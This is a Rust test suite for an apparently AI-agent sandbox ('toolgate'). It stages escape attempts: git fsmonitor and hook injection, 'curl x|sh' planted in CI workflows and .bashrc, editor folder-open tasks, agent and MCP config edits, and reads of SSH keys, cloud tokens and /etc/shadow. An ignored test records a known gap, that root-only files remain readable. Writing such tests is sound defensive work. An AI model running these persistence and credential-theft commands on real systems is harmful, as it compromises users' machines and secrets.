//! Escape attempts from the sandbox in mode `auto`, as an attacker would make
//! them: each runs inside `bash drive.sh`, an opaque script the gate allows
//! only because it runs confined, so the gate never sees what it does. The
//! payloads are harmless (markers, canaries, loopback listeners the test
//! starts); each test is named for the attack. Real binary, real workspace,
//! the machine's real sandbox, as root in CI.

// A failed setup step should stop a test or bench loudly.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::support;

use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;
use support::cli_env::CliEnv as Env;
use toolgate_sandbox::test_util::scratch_parent;

const CANARY: &str = "CANARY-7f3a9";

fn env() -> Env {
    // Outside /tmp, which the sandbox replaces with a private one.
    let e = Env::in_dir(&scratch_parent(Path::new(env!("CARGO_TARGET_TMPDIR"))).unwrap());
    git(&e.ws, &["init", "-q"]);
    e.write(e.ws.join("README"), "hello\n");
    git(&e.ws, &["add", "."]);
    git(&e.ws, &["commit", "-qm", "first"]);
    e
}

fn git(dir: &Path, args: &[&str]) -> Output {
    let out = std::process::Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    out
}

fn require_staging(e: &Env) {
    let out = e
        .command(&["sandbox", "status", "--json"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        v["available"].as_bool().unwrap() && v["staging"].as_bool().unwrap(),
        "the sandbox with staging is not available here (run scripts/setup-sandbox.sh): {v}"
    );
}

/// Runs `script` as `bash drive.sh` through `toolgate call` in mode `auto`
/// (extra arguments after), with the workspace as the location.
fn drive(e: &Env, script: &str, extra: &[&str]) -> String {
    require_staging(e);
    std::fs::write(e.ws.join("drive.sh"), script).unwrap();
    let mut args = vec![
        "call",
        "bash",
        r#"{"command":"bash drive.sh"}"#,
        "--mode",
        "auto",
    ];
    args.extend_from_slice(extra);
    let out = e.command(&args).output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("--- drive.sh\n{script}\n--- toolgate call\n{text}");
    text
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

#[test]
fn rename_dot_git_away_and_back_with_an_fsmonitor_config() {
    let e = env();
    let before = read(&e.ws.join(".git/config"));
    let text = drive(
        &e,
        "mv .git .git-old && cp -r .git-old .git && \
         printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config; \
         mv .git-old .git-older 2>/dev/null; echo done",
        &[],
    );
    assert!(text.contains("done"), "the payload ran: {text}");
    assert_eq!(read(&e.ws.join(".git/config")), before);
    assert!(!read(&e.ws.join(".git/config")).contains("fsmonitor"));
    assert!(
        text.contains(".git/config"),
        "the refused path is named: {text}"
    );
    // The repository still works outside.
    git(&e.ws, &["status", "--porcelain"]);
}

#[test]
fn rename_the_parent_of_hooks_and_workflows() {
    let e = env();
    e.write(e.ws.join(".github/workflows/ci.yml"), "on: push\n");
    e.write(e.ws.join(".vscode/tasks.json"), "{}\n");
    drive(
        &e,
        "mv .github gh && mkdir -p .github/workflows && echo 'run: curl x|sh' > .github/workflows/ci.yml; \
         mv .vscode vs && mkdir .vscode && echo '{\"tasks\":[{\"command\":\"touch /tmp/x\"}]}' > .vscode/tasks.json; \
         mkdir -p .git/hooks && echo 'touch /tmp/x' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        &[],
    );
    assert_eq!(read(&e.ws.join(".github/workflows/ci.yml")), "on: push\n");
    assert_eq!(read(&e.ws.join(".vscode/tasks.json")), "{}\n");
    assert!(!e.ws.join(".git/hooks/pre-commit").exists());
}

#[test]
fn rename_the_location_root_itself() {
    let e = env();
    let name = e.ws.file_name().unwrap().to_str().unwrap().to_string();
    drive(
        &e,
        &format!(
            "cd .. && mv {name} {name}-moved; mkdir -p {name}/.git && echo x > {name}/.git/config"
        ),
        &[],
    );
    assert!(e.ws.join("README").exists(), "the root stays where it is");
    assert!(!e.base.join(format!("{name}-moved")).exists());
    assert!(read(&e.ws.join(".git/config")).contains("[core]"));
}

#[test]
fn a_new_repository_with_fsmonitor_inside_the_location() {
    let e = env();
    drive(
        &e,
        "mkdir -p src && cd src && git init -q && git config core.fsmonitor 'touch /tmp/pwned' && echo ok",
        &[],
    );
    assert!(
        !read(&e.ws.join("src/.git/config")).contains("fsmonitor"),
        "a nested repository's config did not land"
    );
}

#[test]
fn git_commondir_and_alternates_and_submodule_configs() {
    let e = env();
    drive(
        &e,
        "echo /elsewhere > .git/commondir; mkdir -p .git/objects/info && echo /evil > .git/objects/info/alternates; \
         mkdir -p .git/modules/sub && printf '[core]\\n\\tfsmonitor = x\\n' > .git/modules/sub/config",
        &[],
    );
    assert!(!e.ws.join(".git/commondir").exists());
    assert!(!e.ws.join(".git/objects/info/alternates").exists());
    assert!(!e.ws.join(".git/modules/sub/config").exists());
}

#[test]
fn protected_paths_created_at_any_depth() {
    let e = env();
    let paths = [
        "services/api/.envrc",
        "services/api/.claude/settings.json",
        "a/b/c/.mcp.json",
        ".husky/pre-commit",
        ".pre-commit-config.yaml",
        "Jenkinsfile",
        ".circleci/config.yml",
        ".buildkite/pipeline.yml",
        ".github/actions/x/action.yml",
        ".toolgate/config.toml",
    ];
    let script: String = paths
        .iter()
        .map(|p| format!("mkdir -p \"$(dirname {p})\"; echo evil > {p}\n"))
        .collect();
    let text = drive(&e, &script, &[]);
    for p in paths {
        assert!(!e.ws.join(p).exists(), "{p} landed: {text}");
    }
}

#[test]
fn credentials_in_the_home_directory_are_hidden_whatever_their_name() {
    let e = env();
    for rel in [
        ".ssh/id_rsa",
        ".aws/credentials",
        ".pgpass",
        ".pypirc",
        "_netrc",
        ".azure/accessTokens.json",
        ".config/gcloud/credentials.db",
        ".password-store/x.gpg",
        ".claude/.credentials.json",
        ".codex/auth.json",
        ".config/github-copilot/hosts.json",
        ".cargo/credentials.toml",
        ".docker/config.json",
        ".kube/config",
        ".npmrc",
        ".local/share/keyrings/login.keyring",
        "projects/other/.env",
        "notes-nobody-listed.txt",
    ] {
        e.write(e.home.join(rel), &format!("{CANARY} {rel}\n"));
    }
    let text = drive(
        &e,
        "grep -r CANARY ~ 2>/dev/null; cat ~/.ssh/id_rsa ~/.pgpass ~/_netrc ~/.codex/auth.json 2>&1; ls -A ~",
        &[],
    );
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn credentials_in_the_location_are_masked_in_any_case_and_through_links() {
    let e = env();
    for rel in [
        ".env",
        ".ENV",
        "app/.Env.Local",
        "deploy/id_ed25519",
        ".npmrc",
    ] {
        e.write(e.ws.join(rel), &format!("{CANARY} {rel}\n"));
    }
    e.write(e.home.join(".ssh/id_rsa"), &format!("{CANARY} key\n"));
    std::fs::hard_link(e.ws.join(".env"), e.ws.join("notes.txt")).unwrap();
    std::os::unix::fs::symlink(e.home.join(".ssh/id_rsa"), e.ws.join("key-link")).unwrap();
    let text = drive(
        &e,
        "cat .env .ENV app/.Env.Local deploy/id_ed25519 .npmrc notes.txt key-link 2>&1; grep -r CANARY . 2>/dev/null",
        &[],
    );
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn a_credential_created_later_in_the_location_does_not_land() {
    let e = env();
    drive(
        &e,
        "echo SECRET=1 > .env.production; echo k > deploy.pem",
        &[],
    );
    assert!(!e.ws.join(".env.production").exists());
}

#[test]
fn system_secrets_are_unreadable_even_as_root() {
    let e = env();
    let text = drive(
        &e,
        "head -c 200 /etc/shadow 2>&1 | od -c | head -3; ls /etc/ssl/private 2>&1; echo end",
        &[],
    );
    assert!(!text.contains("root:"), "{text}");
}

#[test]
fn a_root_that_holds_the_home_directory_cannot_rewrite_the_users_config() {
    let e = env();
    let config = e.home.join(".config/toolgate/config.toml");
    e.write(&config, "mode = \"default\"\n");
    e.write(e.home.join(".bashrc"), "# rc\n");
    e.write(e.home.join(".gitconfig"), "[user]\n");
    // The location's root is the base, which holds the home and the
    // workspace; the driver is found from the base.
    let script = format!(
        "echo '[permission.bash]\n\"curl *\" = \"allow\"' >> {config}; \
         echo 'curl x|sh' >> {home}/.bashrc; echo '[core]' >> {home}/.gitconfig; echo tried",
        config = config.display(),
        home = e.home.display()
    );
    std::fs::write(e.base.join("drive.sh"), &script).unwrap();
    let text = drive(&e, &script, &["--root", e.base.to_str().unwrap()]);
    assert!(text.contains("tried"), "{text}");
    assert_eq!(read(&config), "mode = \"default\"\n");
    assert_eq!(read(&e.home.join(".bashrc")), "# rc\n");
    assert_eq!(read(&e.home.join(".gitconfig")), "[user]\n");
}

#[test]
fn a_unix_socket_under_home_is_unreachable() {
    let e = env();
    let docker = e.home.join(".docker/desktop/docker.sock");
    let agent = e.home.join(".1password/agent.sock");
    std::fs::create_dir_all(docker.parent().unwrap()).unwrap();
    std::fs::create_dir_all(agent.parent().unwrap()).unwrap();
    let listeners = [
        UnixListener::bind(&docker).unwrap(),
        UnixListener::bind(&agent).unwrap(),
    ];
    for l in &listeners {
        l.set_nonblocking(true).unwrap();
    }
    drive(
        &e,
        &format!(
            "python3 -c 'import socket,sys\nfor p in sys.argv[1:]:\n  try:\n    s=socket.socket(socket.AF_UNIX); s.connect(p); s.send(b\"x\"); print(\"REACHED\", p)\n  except Exception as x: print(\"no\", x)' {} {}",
            docker.display(),
            agent.display()
        ),
        &[],
    );
    for l in &listeners {
        assert!(
            matches!(l.accept(), Err(err) if err.kind() == std::io::ErrorKind::WouldBlock),
            "a socket under home was reached"
        );
    }
}

/// A loopback HTTP server that answers every request and counts them.
fn counting_server() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = seen.clone();
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut buf = [0u8; 1024];
            let _ = s.read(&mut buf);
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
        }
    });
    (port, seen)
}

fn call_bash(e: &Env, command: &str) -> String {
    require_staging(e);
    let input = serde_json::json!({ "command": command }).to_string();
    let out = e
        .command(&["call", "bash", &input, "--mode", "auto"])
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("--- {command}\n{text}");
    text
}

#[test]
fn an_opaque_part_gets_no_network_from_an_approved_part() {
    let e = env();
    let (port, seen) = counting_server();
    e.write(
        e.home.join(".config/toolgate/config.toml"),
        "[permission.bash]\n\"curl *\" = \"allow\"\n",
    );
    // Alone, the approved curl reaches the host it named, through the proxy.
    let text = call_bash(
        &e,
        &format!("curl -s --max-time 5 http://127.0.0.1:{port}/health"),
    );
    assert!(text.contains("ok"), "{text}");
    let after_curl = seen.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(after_curl, 1, "{text}");
    // Beside an opaque script, neither gets that network: the script's
    // connection never arrives.
    std::fs::write(
        e.ws.join("drive.sh"),
        format!(
            "python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\", {port}), 3); s.send(b\"GET / HTTP/1.0\\r\\n\\r\\n\"); print(s.recv(100))'; \
             curl -s --max-time 3 http://127.0.0.1:{port}/again; echo script-ran"
        ),
    )
    .unwrap();
    let text = call_bash(
        &e,
        &format!("curl -s --max-time 3 http://127.0.0.1:{port}/health ; bash drive.sh"),
    );
    assert!(text.contains("script-ran"), "{text}");
    assert_eq!(
        seen.load(std::sync::atomic::Ordering::SeqCst),
        after_curl,
        "the opaque part reached the listener: {text}"
    );
}

#[test]
fn no_phantoms_git_add_all_commits_exactly_the_files_that_exist() {
    let e = env();
    e.write(e.ws.join("src/lib.rs"), "// code\n");
    let text = drive(
        &e,
        "ls -A; export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.invalid \
         GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@example.invalid; \
         git add -A && git commit -qm second && echo committed",
        &[],
    );
    assert!(text.contains("committed"), "{text}");
    let tree = git(&e.ws, &["ls-tree", "-r", "--name-only", "HEAD"]);
    assert_eq!(
        String::from_utf8_lossy(&tree.stdout),
        "README\ndrive.sh\nsrc/lib.rs\n"
    );
    let status = git(&e.ws, &["status", "--porcelain"]);
    assert_eq!(String::from_utf8_lossy(&status.stdout), "");
}

#[test]
fn the_environment_is_an_allowlist() {
    let e = env();
    std::fs::write(e.ws.join("drive.sh"), "env; echo end").unwrap();
    let input = serde_json::json!({"command": "bash drive.sh"}).to_string();
    let run = |e: &Env| {
        let out = e
            .command(&["call", "bash", &input, "--mode", "auto"])
            .env("DEPLOY_HOOK_URL", format!("https://x/{CANARY}"))
            .env("SOME_TOOL_SETTING", format!("{CANARY}-setting"))
            .env("LANG", "C.UTF-8")
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    require_staging(&e);
    let text = run(&e);
    assert!(text.contains("end"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
    assert!(text.contains("LANG=C.UTF-8"), "{text}");
    // `[sandbox] env` names what else to pass.
    e.write(
        e.home.join(".config/toolgate/config.toml"),
        "[sandbox]\nenv = [\"SOME_TOOL_SETTING\"]\n",
    );
    let text = run(&e);
    assert!(
        text.contains(&format!("SOME_TOOL_SETTING={CANARY}-setting")),
        "{text}"
    );
    assert!(!text.contains("DEPLOY_HOOK_URL"), "{text}");
}

#[test]
fn more_of_the_class_a_gitfile_an_upper_case_alternates_and_a_hooks_path() {
    let e = env();
    drive(
        &e,
        "mkdir -p sub && echo 'gitdir: /elsewhere/.git' > sub/.git; \
         mkdir -p .git/OBJECTS/INFO && echo /evil > .git/OBJECTS/INFO/ALTERNATES; \
         mkdir -p tools/hooks && echo 'touch /tmp/x' > tools/hooks/pre-commit; \
         git config core.hooksPath tools/hooks; echo tried",
        &[],
    );
    assert!(!e.ws.join("sub/.git").exists(), "a gitfile landed");
    assert!(!e.ws.join(".git/OBJECTS/INFO/ALTERNATES").exists());
    assert!(
        !read(&e.ws.join(".git/config")).contains("hooksPath"),
        "core.hooksPath landed"
    );
}

#[test]
fn files_the_repository_config_names_do_not_land_an_include_a_hooks_path_and_a_driver_script() {
    // The repository's own config names files of the work tree that git
    // reads as config or runs: an included file, a hooks directory, a
    // filter's script, and an include that does not exist yet. Writing
    // them is writing `.git/config` (an `fsmonitor` in the include runs
    // at the person's next `git status`).
    let e = env();
    git(&e.ws, &["config", "include.path", "../team.gitconfig"]);
    git(
        &e.ws,
        &["config", "--add", "include.path", "../later.gitconfig"],
    );
    git(&e.ws, &["config", "core.hooksPath", "tools/hooks"]);
    git(
        &e.ws,
        &["config", "filter.lint.clean", "scripts/clean.sh %f"],
    );
    e.write(e.ws.join("team.gitconfig"), "[user]\n");
    e.write(e.ws.join("tools/hooks/pre-commit"), "#!/bin/sh\n");
    e.write(e.ws.join("scripts/clean.sh"), "#!/bin/sh\ncat\n");
    let text = drive(
        &e,
        "printf '[core]\\n\\tfsmonitor = touch marker\\n' >> team.gitconfig; \
         printf '[core]\\n\\tfsmonitor = touch marker\\n' > later.gitconfig; \
         echo 'touch marker' >> tools/hooks/pre-commit; \
         echo 'touch marker' > tools/hooks/post-checkout; \
         echo 'touch marker' >> scripts/clean.sh; \
         echo fine > notes.txt; echo tried",
        &[],
    );
    assert!(text.contains("tried"), "{text}");
    assert_eq!(read(&e.ws.join("team.gitconfig")), "[user]\n", "{text}");
    assert!(!e.ws.join("later.gitconfig").exists(), "{text}");
    assert_eq!(read(&e.ws.join("tools/hooks/pre-commit")), "#!/bin/sh\n");
    assert!(!e.ws.join("tools/hooks/post-checkout").exists(), "{text}");
    assert_eq!(read(&e.ws.join("scripts/clean.sh")), "#!/bin/sh\ncat\n");
    // The rest of the run is ordinary work and lands.
    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n", "{text}");
}

#[test]
fn secret_files_the_table_did_not_know_are_masked_in_the_location_and_the_caches() {
    // Documented secret files the credential table lacked: Streamlit's
    // secrets, Emacs' auth-source file, a Kerberos keytab, a PKCS #8 key
    // (Apple's AuthKey_*.p8), a kubeconfig, GnuPG 1's secret keyring, npm's
    // global config, and the Hugging Face tokens beside `token` in a cache
    // the sandbox shows.
    let e = env();
    for rel in [
        ".streamlit/secrets.toml",
        ".authinfo",
        "deploy/krb5.keytab",
        "keys/AuthKey_ABC123.p8",
        "ops/kubeconfig",
        "old/secring.gpg",
        "node/etc/npmrc",
    ] {
        e.write(e.ws.join(rel), &format!("{CANARY} {rel}\n"));
    }
    e.write(
        e.home.join(".cache/huggingface/stored_tokens"),
        &format!("{CANARY} stored_tokens\n"),
    );
    let text = drive(&e, "grep -r CANARY . ~/.cache 2>/dev/null; echo tried", &[]);
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn credentials_at_any_depth_of_the_toolchain_places_are_masked_version_managers_and_caches() {
    // A global npmrc is `$PREFIX/etc/npmrc`, and version managers keep each
    // prefix deep in their directory (Volta at depth 5, mise deeper when
    // nested); tools keep tokens at any depth of their cache. The packages'
    // own trees are not searched: their files stay readable (a CA bundle).
    let e = env();
    for rel in [
        ".nvm/versions/node/v20.1.0/etc/npmrc",
        ".volta/tools/image/node/20.1.0/etc/npmrc",
        ".local/share/mise/installs/node/20.1.0/nested/prefix/etc/npmrc",
        ".cache/some-tool/a/b/c/d/e/f/.env",
        ".cache/some-tool/a/b/c/d/e/f/g/deploy_key.pem",
        ".cargo/bin/deep/er/and/deeper/.npmrc",
        ".pyenv/versions/3.12.0/share/tool/x/y/z/credentials.json",
        ".nvm/versions/node/v20.1.0/lib/Node_Modules/x/y/.env",
    ] {
        e.write(e.home.join(rel), &format!("{CANARY} {rel}\n"));
    }
    let ca = ".pyenv/versions/3.12.0/lib/python3.12/site-packages/certifi/cacert.pem";
    e.write(e.home.join(ca), "PUBLIC CA BUNDLE\n");
    let text = drive(
        &e,
        &format!("grep -r CANARY ~ 2>/dev/null; cat ~/{ca}; echo tried"),
        &[],
    );
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
    assert!(text.contains("PUBLIC CA BUNDLE"), "{text}");
}

#[test]
fn a_registry_token_in_cargos_config_and_a_cabal_password_are_unreadable_and_cargo_still_reads_the_rest()
 {
    // `~/.cargo/config.toml` and `~/.cabal/config` are read by every build,
    // so they cannot be hidden whole; the secrets in them are values
    // (`[registry] token`, `[registries.NAME] token`, cabal's `password:`).
    let e = env();
    e.write(
        e.home.join(".cargo/config.toml"),
        &format!(
            "[registry]\ntoken = \"{CANARY}-crates-io\"\n[registries.corp]\nindex = \"sparse+https://corp.invalid/index/\"\ntoken = \"{CANARY}-corp\"\n[alias]\ncanary-check = \"version\"\n[net]\noffline = true\n"
        ),
    );
    e.write(
        e.home.join(".cabal/config"),
        &format!("repository hackage.haskell.org\n  url: http://hackage.haskell.org/\n  username: me\n  password: {CANARY}-cabal\njobs: 2\n"),
    );
    e.write(
        e.ws.join("tiny/Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    );
    e.write(e.ws.join("tiny/src/lib.rs"), "pub fn one() -> u32 { 1 }\n");
    // The real toolchain, shown read-only by `[sandbox] readable`.
    let which = std::process::Command::new("rustup")
        .args(["which", "cargo"])
        .output()
        .unwrap();
    assert!(which.status.success(), "{which:?}");
    let cargo = PathBuf::from(String::from_utf8(which.stdout).unwrap().trim());
    let toolchain = cargo.parent().unwrap().parent().unwrap();
    let config = e.home.join("toolchain.toml");
    std::fs::write(
        &config,
        format!(
            "[sandbox]\nreadable = [{:?}]\n",
            toolchain.display().to_string()
        ),
    )
    .unwrap();
    let script = format!(
        "cat ~/.cargo/config.toml ~/.cabal/config; grep -r CANARY ~ 2>/dev/null; \
         export PATH={bin}:$PATH; cargo canary-check; \
         cd tiny && cargo build --offline 2>&1 && echo built; echo tried",
        bin = toolchain.join("bin").display()
    );
    let text = drive(&e, &script, &["--config", &config.display().to_string()]);
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
    // The rest is read: the alias, the registry's index, cabal's jobs.
    assert!(text.contains("cargo 1."), "{text}");
    assert!(text.contains("built"), "{text}");
    assert!(text.contains("corp.invalid"), "{text}");
    assert!(text.contains("jobs: 2"), "{text}");
}

#[test]
fn another_projects_secrets_outside_the_home_directory_are_hidden() {
    let e = env();
    // A sibling of the workspace and the home: neither the location nor a
    // home directory.
    let other = e.base.join("other-project");
    e.write(other.join(".env"), &format!("{CANARY} other .env\n"));
    e.write(other.join("notes.txt"), &format!("{CANARY} other notes\n"));
    let script = format!(
        "cat {o}/.env {o}/notes.txt 2>&1; ls -A {o} 2>&1; echo tried",
        o = other.display()
    );
    let text = drive(&e, &script, &[]);
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn a_vs_code_workspace_file_with_a_folder_open_task_does_not_land() {
    // A `*.code-workspace` file carries settings, tasks and launch
    // configurations like `.vscode/`; a task with `runOn: folderOpen` runs
    // when the person opens the workspace. Any name, any depth, any case.
    let e = env();
    let task = r#"{"folders":[{"path":"."}],"tasks":{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch marker","runOptions":{"runOn":"folderOpen"}}]}}"#;
    let text = drive(
        &e,
        &format!(
            "echo '{task}' > project.code-workspace; mkdir -p tools; \
             echo '{task}' > tools/Team.CODE-WORKSPACE; echo tried"
        ),
        &[],
    );
    assert!(text.contains("tried"), "{text}");
    assert!(!e.ws.join("project.code-workspace").exists(), "{text}");
    assert!(!e.ws.join("tools/Team.CODE-WORKSPACE").exists(), "{text}");
    // The file tools ask for it too, even in accept-edits.
    let out = e
        .command(&[
            "check",
            "write",
            r#"{"path":"project.code-workspace","content":"{}"}"#,
            "--mode",
            "accept-edits",
            "--json",
        ])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_ne!(v["decision"], "allow", "{v}");
}

#[test]
fn files_a_protected_file_names_do_not_land_direnv_hooks_agents_and_editors() {
    // A protected file that runs code often names another file of the work
    // tree that it runs: direnv's `.envrc` puts `bin/` first on PATH and
    // sources a script, a git hook or a hook manager runs a script, another
    // agent's hook and MCP server are scripts, an editor starts the
    // interpreter its settings name. Writing the named file is writing the
    // protected one: each runs, unconfined, at the person's next `cd`,
    // commit, push, agent start or editor start (found by review s35: all
    // landed).
    let e = env();
    e.write(
        e.ws.join(".envrc"),
        "PATH_add bin\nsource_env scripts/env.sh\nsource tools/dev.sh\n",
    );
    e.write(
        e.ws.join(".pre-commit-config.yaml"),
        "repos:\n- repo: local\n  hooks:\n  - id: lint\n    name: lint\n    entry: scripts/lint.sh\n    language: script\n",
    );
    e.write(e.ws.join(".husky/pre-commit"), "sh scripts/precommit.sh\n");
    e.write(
        e.ws.join(".git/hooks/pre-push"),
        "#!/bin/sh\nexec ./tools/prepush.sh\n",
    );
    e.write(
        e.ws.join(".claude/settings.json"),
        r#"{"hooks":{"PostToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"python3 \"$CLAUDE_PROJECT_DIR\"/tools/fmt.py"}]}]}}"#,
    );
    e.write(
        e.ws.join(".mcp.json"),
        r#"{"mcpServers":{"x":{"command":"node","args":["tools/server.js"]}}}"#,
    );
    e.write(
        e.ws.join(".vscode/settings.json"),
        r#"{"python.defaultInterpreterPath":"${workspaceFolder}/tools/python"}"#,
    );
    let named = [
        "scripts/env.sh",
        "tools/dev.sh",
        "scripts/lint.sh",
        "scripts/precommit.sh",
        "tools/prepush.sh",
        "tools/fmt.py",
        "tools/server.js",
        "tools/python",
    ];
    for f in named {
        e.write(e.ws.join(f), "# as it was\n");
    }
    let mut script: String = named
        .iter()
        .map(|f| format!("echo 'touch marker' >> {f}; "))
        .collect();
    script.push_str(
        "mkdir -p bin && echo 'touch marker' > bin/git; echo fine > notes.txt; echo tried",
    );
    let text = drive(&e, &script, &[]);
    assert!(text.contains("tried"), "{text}");
    for f in named {
        assert_eq!(read(&e.ws.join(f)), "# as it was\n", "{f} landed: {text}");
    }
    assert!(!e.ws.join("bin/git").exists(), "bin/git landed: {text}");
    // The rest of the run is ordinary work and lands.
    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n", "{text}");
}

#[test]
#[ignore = "open (review s35): running as root, the system directories are shown whole, and only /etc/shadow, /etc/gshadow, /etc/sudoers, /etc/ssl/private and the SSH host keys are covered; a root-only file elsewhere in /etc, /var or /opt (shadow backups, a TLS key under /etc/letsencrypt, a keytab, a WireGuard or NetworkManager secret, a runner's token, a service's .pgpass, mail, crontabs) is readable. Closing the class needs the sandbox to show the system as an unprivileged user sees it (mask what others cannot read, or run the command with no DAC override), which costs a walk of /etc, /var and /opt per run or a cached one"]
fn root_only_system_files_beyond_the_tables_entries_are_unreadable_as_root() {
    // SAFETY of the test itself: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("not root: an ordinary user cannot read these files anyway");
        return;
    }
    let e = env();
    let files = [
        "/var/backups/shadow.bak.toolgate-test",
        "/etc/toolgate-test-wireguard/wg0.conf",
        "/etc/toolgate-test-letsencrypt/live/example.com/privkey.pem",
        "/etc/toolgate-test-runner/config.toml",
        "/opt/toolgate-test-app/.env",
        "/var/lib/toolgate-test-db/.pgpass",
    ];
    for f in files {
        let p = Path::new(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, format!("{CANARY} {f}\n")).unwrap();
        std::fs::set_permissions(
            p,
            <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o600),
        )
        .unwrap();
    }
    let script: String = files
        .iter()
        .map(|f| format!("cat {f} 2>/dev/null; "))
        .collect();
    let text = drive(&e, &format!("{script} echo tried"), &[]);
    for f in files {
        let _ = std::fs::remove_file(f);
    }
    for d in [
        "/etc/toolgate-test-wireguard",
        "/etc/toolgate-test-letsencrypt",
        "/etc/toolgate-test-runner",
        "/opt/toolgate-test-app",
        "/var/lib/toolgate-test-db",
    ] {
        let _ = std::fs::remove_dir_all(d);
    }
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
}
